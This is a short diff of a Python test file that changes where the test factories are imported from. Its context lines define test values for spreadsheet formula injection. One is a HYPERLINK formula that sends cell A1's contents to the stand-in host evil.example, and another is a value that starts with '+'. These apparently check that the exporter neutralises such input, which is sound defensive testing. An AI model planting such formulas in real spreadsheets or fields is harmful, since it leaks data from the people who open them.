@@ -16,8 +16,8 @@ from openpyxl import load_workbook
 
 from cchc.core.charts import Chart, Series
 from cchc.domain.cells import FORMULA_TRIGGERS
+from cchc.testing.factories import make_area, make_task
 from cchc.tracking.actions import do_assign_plan
-from cchc.tracking.tests.factories import make_area, make_task
 
 HOSTILE_TITLE = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'
 HOSTILE_AREA = "+CẢI CÁCH THỂ CHẾ"
